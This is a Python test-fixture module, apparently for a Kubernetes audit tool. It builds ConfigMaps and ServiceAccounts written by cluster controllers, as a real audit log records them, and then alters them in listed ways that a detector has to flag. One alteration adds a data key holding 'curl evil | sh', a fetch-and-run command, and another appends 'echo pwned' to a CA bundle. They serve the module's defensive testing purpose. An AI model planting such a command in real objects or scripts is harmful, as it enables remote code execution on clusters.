"""The objects controllers write into every namespace, as the real audit log records them: stored, and tampered with.

``written()`` reads every create by the root CA publisher, OpenShift's service CA
publisher and the ServiceAccount controller from ``tests/data/audit`` (one per
namespace each; ``provider/compare/controlplane.py`` says what each writes), and
``stored()`` gives one the metadata the API server adds when it stores it;
:data:`TAMPERINGS` are the changes nobody but a person or a rogue
controller makes, each with the field a verdict must name.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.support.audit import REAL_LOG

#: The controllers whose creates ``written()`` reads, by the service account they act as.
WRITERS = ("root-ca-cert-publisher", "service-ca-cert-publisher", "service-account-controller")
#: The namespaces of the recording (tests/data/audit/README.md): four of the cluster's, four a user created (one
#: deleted later, ``batch``), and each holds each object once.
NAMESPACES = ("default", "kube-node-lease", "kube-public", "kube-system", "shop", "data", "batch", "monitoring")


def written() -> list[tuple[str, dict[str, Any]]]:
    """``(writer, object)`` for every create the three controllers made in the real log, the namespace filled in.

    The request body, as the controller sent it; the stored object adds only what the
    API server sets (``stored()``).
    """
    found = []
    for line in REAL_LOG.read_text().splitlines():
        event = json.loads(line)
        user = event["user"]["username"]
        writer = user.rpartition(":")[2]
        if event["verb"] != "create" or writer not in WRITERS or not user.startswith("system:serviceaccount:"):
            continue
        if event.get("responseStatus", {}).get("code") != 201:
            continue
        obj = copy.deepcopy(event["requestObject"])
        obj["metadata"]["namespace"] = event["objectRef"]["namespace"]
        found.append((writer, obj))
    return found


def first(writer: str) -> dict[str, Any]:
    """The first object ``writer`` created in the recording (in ``default``)."""
    return next(obj for who, obj in written() if who == writer)


def stored(obj: dict[str, Any], namespace: str | None = None, resource_version: str = "812") -> dict[str, Any]:
    """``obj`` as the API server stores and lists it: uid, resourceVersion, creationTimestamp and managedFields.

    The shape of the recorded answers in tests/data/dryrun/create (a ConfigMap, a ServiceAccount), whose
    managedFields name the writer's field manager; a stored object also has a resourceVersion.
    """
    out = copy.deepcopy(obj)
    meta = out["metadata"]
    if namespace is not None:
        meta["namespace"] = namespace
    fields = {f"f:{k}": {} for k in out if k not in ("apiVersion", "kind", "metadata")}
    if meta.get("annotations"):
        fields["f:metadata"] = {"f:annotations": {".": {}, **{f"f:{k}": {} for k in meta["annotations"]}}}
    meta.update(
        {
            "uid": "7f0c7f3e-5b8e-4a55-9d0e-2f3a3c1d0b11",
            "resourceVersion": resource_version,
            "creationTimestamp": "2026-11-21T11:42:11Z",
            "managedFields": [
                {
                    "manager": "kube-controller-manager",
                    "operation": "Update",
                    "apiVersion": "v1",
                    "time": "2026-11-21T11:42:11Z",
                    "fieldsType": "FieldsV1",
                    "fieldsV1": fields,
                }
            ],
        }
    )
    return out


@dataclass(frozen=True)
class Tampering:
    """A change to a control-plane object nobody but its writer should make, and the field the verdict names."""

    name: str
    writer: str
    change: Callable[[dict[str, Any]], None]
    field: str


def _set(*path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(obj: dict[str, Any]) -> None:
        node = obj
        for step in path[:-1]:
            node = node.setdefault(step, {})
        node[path[-1]] = value

    return change


def _delete(*path: str) -> Callable[[dict[str, Any]], None]:
    def change(obj: dict[str, Any]) -> None:
        node = obj
        for step in path[:-1]:
            node = node[step]
        del node[path[-1]]

    return change


#: A certificate that is not X.509 inside: the base64 of a few bytes in a CERTIFICATE block.
NOT_A_CERTIFICATE = "-----BEGIN CERTIFICATE-----\nTUlJQmJvZ3Vz\n-----END CERTIFICATE-----\n"

ROOT, SERVICE, ACCOUNT = WRITERS
#: OpenShift's ConfigMap, taken by the opt-in ``openshift`` profile only.
SERVICE_CA = "openshift-service-ca.crt"
OWNER = [{"apiVersion": "v1", "kind": "Namespace", "name": "demo", "uid": "0d7c0cb4-0000-4000-8000-000000000000"}]

TAMPERINGS = (
    Tampering("label", ROOT, _set("metadata", "labels", value={"team": "payments"}), "metadata.labels"),
    Tampering(
        "another-annotation",
        ROOT,
        _set("metadata", "annotations", "example.com/note", value="hi"),
        "metadata.annotations.example.com/note",
    ),
    Tampering(
        "description-changed",
        ROOT,
        _set("metadata", "annotations", "kubernetes.io/description", value="a CA bundle"),
        "metadata.annotations.kubernetes.io/description",
    ),
    Tampering(
        "description-removed",
        ROOT,
        _delete("metadata", "annotations"),
        "metadata.annotations.kubernetes.io/description",
    ),
    Tampering("another-data-key", ROOT, _set("data", "extra.sh", value="curl evil | sh"), "data.extra.sh"),
    Tampering("binary-data", ROOT, _set("binaryData", value={"blob": "aGk="}), "binaryData"),
    Tampering("immutable", ROOT, _set("immutable", value=True), "immutable"),
    Tampering("owner-reference", ROOT, _set("metadata", "ownerReferences", value=OWNER), "metadata.ownerReferences"),
    Tampering("finalizer", ROOT, _set("metadata", "finalizers", value=["example.com/keep"]), "metadata.finalizers"),
    Tampering("ca-not-pem", ROOT, _set("data", "ca.crt", value="trust me"), "data.ca.crt"),
    Tampering(
        "ca-text-outside-blocks",
        ROOT,
        lambda obj: obj["data"].update({"ca.crt": obj["data"]["ca.crt"] + "echo pwned\n"}),
        "data.ca.crt",
    ),
    Tampering("ca-not-x509", ROOT, _set("data", "ca.crt", value=NOT_A_CERTIFICATE), "data.ca.crt"),
    Tampering("ca-empty", ROOT, _set("data", "ca.crt", value=""), "data.ca.crt"),
    Tampering("ca-missing", ROOT, _delete("data", "ca.crt"), "data.ca.crt"),
    Tampering(
        "inject-off",
        SERVICE,
        _set("metadata", "annotations", "service.beta.openshift.io/inject-cabundle", value="false"),
        "metadata.annotations.service.beta.openshift.io/inject-cabundle",
    ),
    Tampering("service-ca-not-pem", SERVICE, _set("data", "service-ca.crt", value="trust me"), "data.service-ca.crt"),
    Tampering("service-ca-label", SERVICE, _set("metadata", "labels", value={"a": "b"}), "metadata.labels"),
    Tampering(
        "pull-secrets", ACCOUNT, _set("imagePullSecrets", value=[{"name": "registry-creds"}]), "imagePullSecrets"
    ),
    Tampering(
        "token-mount-off", ACCOUNT, _set("automountServiceAccountToken", value=False), "automountServiceAccountToken"
    ),
    Tampering("account-annotation", ACCOUNT, _set("metadata", "annotations", "a", value="b"), "metadata.annotations.a"),
    Tampering("account-secrets", ACCOUNT, _set("secrets", value=[{"name": "default-token-abcde"}]), "secrets"),
)


def tampered(tampering: Tampering, namespace: str = "demo") -> dict[str, Any]:
    obj = stored(first(tampering.writer), namespace)
    tampering.change(obj)
    return obj
